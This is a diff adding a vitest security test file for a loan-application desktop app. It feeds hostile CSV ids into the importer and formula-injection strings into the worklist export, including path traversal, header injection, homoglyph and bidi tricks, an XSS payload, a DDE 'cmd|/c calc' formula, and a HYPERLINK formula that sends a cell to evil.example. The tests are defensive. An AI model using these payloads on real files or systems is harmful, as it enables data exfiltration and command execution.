@@ -1,0 +1,173 @@
+import Papa from 'papaparse'
+import { describe, expect, it } from 'vitest'
+import { createConnectionInUse } from '../../electron/services/connection-in-use.ts'
+import { createFilesService } from '../../electron/services/files-service.ts'
+import { previewIdFile, readIdFile } from '../../renderer/stores/id-file.ts'
+import { applicationIdPattern } from '../../shared/domain/ids.ts'
+import { applicationFromWire } from '../../shared/domain/wire.ts'
+import { ok } from '../../shared/result.ts'
+import { aConnection } from '../support/builders.ts'
+import { HastyClock } from '../support/hasty-clock.ts'
+import { MemoryCacheStore } from '../support/memory-cache-store.ts'
+import { MemoryDeskStore } from '../support/memory-desk-store.ts'
+import { RecordingNotifier } from '../support/recorders.ts'
+
+/*
+ * The attack: a broker mails the officer "this week's applications.csv". Some of its ids are made so
+ * that the request for them goes elsewhere ("app_1/../../token"), look like ids that they are not (a
+ * Cyrillic letter, a character that turns the line around), name the prototype of an object, or are
+ * to hang the window (a quotation mark that is never closed, one endless line). The same broker has
+ * written =HYPERLINK("https://evil.example/"&A2) into the merchant of an application and waits for
+ * the officer to write the worklist to a file and open it in a spreadsheet: the formula would send
+ * the row beside it away, or start a program.
+ *
+ * Nothing but ids may come in, each thing left out is named by its line and shown harmlessly, and no
+ * cell that goes out may begin a formula, whichever separator the spreadsheet believes in.
+ */
+
+const watch = {
+  onProgress: () => undefined,
+  isCancelled: () => false,
+  pause: () => Promise.resolve(),
+}
+
+async function read(text: string) {
+  const file = new Blob([text])
+  const preview = await previewIdFile(file, watch)
+  if (!preview.ok) return preview
+  return readIdFile(file, preview.value, preview.value.guess, watch)
+}
+
+describe('a file that comes in', () => {
+  it.each([
+    ['a path to another endpoint', 'app_1/../../token'],
+    ['a path of a Windows server', 'app_1\\..\\share'],
+    ['a query', 'app_1?include=secrets'],
+    ['a fragment', 'app_1#x'],
+    ['an escaped slash', 'app_1%2F..%2Ftoken'],
+    ['a header of the request', 'app_1\u000bHost: evil.example'],
+    ['a letter of another alphabet', '\u0430pp_1'],
+    ['full-width figures', 'app_１'],
+    ['a line turned around', 'app_\u202e1'],
+    ['a character without width', 'app_\u200b1'],
+    ['markup', '<img src=x onerror=alert(1)>'],
+    ['a formula', '=cmd|/c calc!A1'],
+    ['a prototype', '__proto__'],
+    ['a constructor', 'constructor'],
+    ['an id without an end', `app_${'a'.repeat(100_000)}`],
+  ])('brings in no %s', async (_story, hostile) => {
+    const list = await read(`application_id\napp_good\n${hostile}\napp_fine\n`)
+    if (!list.ok) throw new Error(list.error.code)
+    expect(list.value.ids).toEqual(['app_good', 'app_fine'])
+    expect(list.value.wrong.named).toMatchObject([{ line: 3 }])
+    const [{ shown = '' } = {}] = list.value.wrong.named
+    expect(shown.length).toBeLessThan(120)
+    expect(shown).not.toMatch(/\p{C}/u)
+  })
+
+  it('hands over nothing but what fits into a path as it is', async () => {
+    const list = await read('id\napp_.\napp_..\napp_~\napp_1 app_2\n"app_3\n"\n')
+    if (!list.ok) throw new Error(list.error.code)
+    for (const id of list.value.ids) {
+      expect(id).toMatch(applicationIdPattern)
+      expect(new URL(`/api/applications/${id}`, 'https://lender.example').pathname).toBe(
+        `/api/applications/${id}`,
+      )
+    }
+  })
+
+  it.each([
+    ['a quotation mark that is never closed', `"${'app_1\n'.repeat(500_000)}`],
+    ['one endless line', 'app_'.repeat(1_000_000)],
+    ['nothing but quotation marks', '"'.repeat(1_500_001)],
+    ['quotation marks that close nothing', `"${'a"b'.repeat(500_000)}`],
+    ['separators alone', ','.repeat(1_500_000)],
+  ])('is given up early: %s', async (_story, text) => {
+    const list = await read(text)
+    expect(list.ok ? list.value.ids : list.error.code).toSatisfy(
+      (outcome: unknown) =>
+        (Array.isArray(outcome) && outcome.length === 0) ||
+        outcome === 'list-quote-open' ||
+        outcome === 'list-line-too-long',
+    )
+  })
+})
+
+const formulas = [
+  '=HYPERLINK("https://evil.example/"&A2,"Open")',
+  '+cmd|/c calc!A1',
+  '-2+3+cmd|/c calc!A1',
+  '@SUM(1+1)*cmd|/c calc!A1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '＝1+1',
+  '＠SUM(A1)',
+  'Shop;=1+1',
+  'Shop; "=1+1',
+  'Shop\t=1+1',
+  'Shop|@x',
+  'Shop",=1+1,"',
+  'Shop"\r\n=1+1',
+]
+
+/** What makes a spreadsheet calculate. */
+const beginsFormula = /^\s*[=+\-@＝＋－＠]/
+
+describe('a file that goes out', () => {
+  it.each([
+    ['a comma', ','],
+    ['a semicolon', ';'],
+    ['a tab', '\t'],
+    ['a bar', '|'],
+  ])('begins no formula where %s is taken for the separator', async (_story, delimiter) => {
+    const connection = aConnection()
+    const store = new MemoryDeskStore()
+    const cache = new MemoryCacheStore()
+    const inUse = createConnectionInUse({ connections: store.connections, values: store.values })
+    store.connections.put(connection)
+    inUse.set(connection.id)
+    for (const [number, formula] of formulas.entries()) {
+      const id = `app_${String(number).padStart(2, '0')}`
+      const application = applicationFromWire(
+        { id, status: formula, third_party_disbursement_destination: formula },
+        connection.unitsProfile,
+      )
+      if (!application.ok) throw new Error(application.error.code)
+      cache.put(connection.id, id, application.value, 1)
+    }
+    let text = ''
+    const files = createFilesService({
+      saver: {
+        async save(_name, content) {
+          if (typeof content === 'string' || content instanceof Uint8Array) text = String(content)
+          else for await (const piece of content) text += piece
+          return ok({ where: '/exports/worklist.csv' })
+        },
+      },
+      printer: null,
+      activity: store.activity,
+      cache,
+      inUse,
+      notifier: new RecordingNotifier(),
+      clock: new HastyClock(),
+      person: { name: 'officer' },
+    })
+    await files.saveWorklist({
+      filter: {},
+      sort: { by: 'id', direction: 'ascending' },
+      columns: [
+        { column: 'id', title: 'Id' },
+        { column: 'status', title: '=1+1' },
+        { column: 'merchant', title: 'Merchant' },
+      ],
+    })
+    const rows = Papa.parse<string[]>(text, { delimiter }).data
+    expect(rows.flat().filter((cell) => beginsFormula.test(cell))).toEqual([])
+    if (delimiter !== ',') return
+    // Read as what it is, nothing is lost but for the apostrophes that keep a text a text.
+    const merchants = rows.slice(1, -1).map(([, , merchant = '']) => merchant.replaceAll("'", ''))
+    expect(merchants).toEqual(formulas)
+  })
+})
